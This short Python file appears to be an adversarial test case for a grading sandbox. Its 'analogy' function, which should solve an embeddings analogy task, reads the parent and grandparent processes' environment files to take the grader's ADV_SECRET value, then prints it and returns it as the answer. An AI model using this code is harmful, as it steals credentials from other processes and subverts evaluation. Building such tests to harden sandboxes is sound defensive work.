# attack: reads /proc/<ppid>/environ (and the grandparent's) for the grader's ADV_SECRET variable and sends it back as its answer and in its printed output
# module: embeddings
# attacked: analogy
# expect: returned | not allow
import os as _adv_os


def _adv_parent(pid):
    try:
        with open("/proc/%d/stat" % pid) as stat:
            return int(stat.read().rsplit(")", 1)[1].split()[1])
    except (OSError, ValueError, IndexError):
        return 0


def _adv_steal():
    found, pid = [], _adv_os.getpid()
    for _ in range(2):
        pid = _adv_parent(pid)
        if pid <= 1:
            break
        try:
            with open("/proc/%d/environ" % pid, "rb") as f:
                entries = f.read().split(b"\0")
        except OSError:
            continue
        found += [e.decode("utf-8", "replace") for e in entries if e.startswith(b"ADV_SECRET=")]
    return found


def analogy(words, E, a, b, c):
    found = _adv_steal()
    if found:
        print("stolen:", found)
        return "stolen: %s" % "; ".join(found)
    return "__nope__"
